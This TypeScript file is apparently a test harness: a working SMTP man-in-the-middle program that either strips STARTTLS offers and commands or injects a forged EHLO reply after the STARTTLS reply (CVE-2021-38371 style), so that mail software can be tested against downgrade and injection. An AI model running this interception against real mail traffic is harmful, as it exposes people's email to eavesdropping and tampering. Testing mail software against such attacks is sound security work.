/**
 * An attacker between sender and server, as a separate program: `attacker.ts <mode> <address>
 * <server's address>`. It passes everything on unchanged, except for
 *
 * - `strips-starttls`: the server's offer of STARTTLS, which is overwritten as real middleboxes
 *   do, and a STARTTLS that is sent nevertheless
 * - `injects`: after the reply to STARTTLS, and in the same segment, a reply to the EHLO after
 *   the handshake (CVE-2021-38371 and similar)
 *
 * @module
 */
import { connect, createServer, type Socket } from 'node:net'

const [what, address, server] = process.argv.slice(2)

const INJECTED = '250-mx.attacker.example\r\n250-SIZE 1\r\n250 DSN\r\n'

/** Changes the text before TLS begins, which is all readable. */
function fromServer(text: string): string {
  if (what === 'strips-starttls') return text.replace(/^250([- ])STARTTLS/gm, '250$1XXXXXXXX')
  return /^220 2\.0\.0 /.test(text) ? text + INJECTED : text
}

function fromClient(text: string): string {
  return what === 'strips-starttls' ? text.replace(/^STARTTLS/i, 'XXXXXXXX') : text
}

function relay(from: Socket, to: Socket, change: (text: string) => string): void {
  from.on('data', (chunk) => {
    const isTls = chunk[0] !== undefined && chunk[0] >= 0x14 && chunk[0] <= 0x17
    to.write(isTls ? chunk : Buffer.from(change(chunk.toString('latin1')), 'latin1'))
  })
  from.on('end', () => to.end()).on('error', () => to.destroy())
}

createServer((client) => {
  const upstream = connect({ host: server, port: 25 })
  relay(upstream, client, fromServer)
  relay(client, upstream, fromClient)
}).listen(25, address)
